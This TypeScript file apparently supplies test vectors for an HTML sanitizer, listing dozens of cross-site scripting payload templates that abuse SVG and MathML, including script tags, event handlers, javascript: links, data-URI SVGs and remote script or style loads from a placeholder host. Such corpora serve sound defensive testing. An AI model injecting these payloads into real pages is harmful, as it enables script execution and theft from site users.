import { vectorsOf } from '../vector.ts'

/** SVG and MathML. */
export const foreign = vectorsOf('svg and mathml', {
  'svg script': '<svg><script>{js}</script></svg>',
  'svg script by reference': '<svg><script href="https://{host}/x.js"/></svg>',
  'svg script xlink': '<svg><script xlink:href="//{host}/x.js"></script></svg>',
  'svg script with references': '<svg><script>&#104;it(1)&#59;{dec}</script></svg>',
  'svg script cdata': '<svg><script><![CDATA[{js}]]></script></svg>',
  'svg in namespace': '<svg xmlns="http://www.w3.org/2000/svg"><g onload="{js}"></g></svg>',
  'svg link': '<svg><a xlink:href="javascript:{js}"><rect width=9 height=9 /></a></svg>',
  'svg animated link':
    '<svg><a><animate attributeName=href values=javascript:{js} /><text x=9 y=9>x</text></a></svg>',
  'svg set handler': '<svg><set attributeName=onload to="{js}" onbegin="{js}"/></svg>',
  'svg animate begin': '<svg><animate onbegin={js} attributeName=x dur=1s></svg>',
  'svg animate end': '<svg><animate onend={js} attributeName=x dur=.1s></svg>',
  'svg animateTransform':
    '<svg><animateTransform onbegin={js} attributeName=transform dur=1s></svg>',
  'svg use data': '<svg><use href="data:image/svg+xml;base64,{svg64}#x"></use></svg>',
  'svg use elsewhere': '<svg><use xlink:href="https://{host}/x.svg#x"></use></svg>',
  'svg image elsewhere': '<svg><image href="https://{host}/x.png" width=9 height=9 /></svg>',
  'svg image xlink': '<svg><image xlink:href="https://{host}/x.png" width=9 height=9 /></svg>',
  'svg feImage':
    '<svg><filter id=f><feImage href="https://{host}/f.png"/></filter><rect filter=url(#f) width=9 height=9 /></svg>',
  'svg foreignObject':
    '<svg><foreignObject><iframe src="javascript:{js}"></iframe></foreignObject></svg>',
  'svg foreignObject body': '<svg><foreignObject><body onload={js}></foreignObject></svg>',
  'svg style import': '<svg><style>@import "https://{host}/x.css";</style></svg>',
  'svg font face':
    '<svg><style>@font-face{font-family:x;src:url(https://{host}/x.woff)}</style><text font-family=x>x</text></svg>',
  'svg title': '<svg><title><script>{js}</script></title></svg>',
  'svg desc': '<svg><desc><img src=x onerror={js}></desc></svg>',
  'svg in image data': '<img src="data:image/svg+xml;base64,{svg64}">',
  'svg in image data plain': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>">`,
  'svg in object data': '<object data="data:image/svg+xml;base64,{svg64}"></object>',
  'svg in embed data': '<embed src="data:image/svg+xml;base64,{svg64}">',
  'svg in frame data': '<iframe src="data:image/svg+xml;base64,{svg64}"></iframe>',
  'svg handler element':
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{js}</handler></svg>',
  'svg cursor': '<svg><cursor xlink:href="https://{host}/c.cur" id=c /></svg>',
  'math link': '<math href="javascript:{js}">x</math>',
  'math xlink': '<math xlink:href="javascript:{js}">x</math>',
  'math action link':
    '<math><maction actiontype="statusline#https://x" xlink:href="javascript:{js}">x</maction></math>',
  'math annotation html':
    '<math><annotation-xml encoding="text/html"><img src=x onerror={js}></annotation-xml></math>',
  'math script': '<math><script>{js}</script></math>',
  'math style': '<math><style><img src=x onerror={js}></style></math>',
  'math mtext image': '<math><mtext><img src=x onerror={js}></mtext></math>',
})
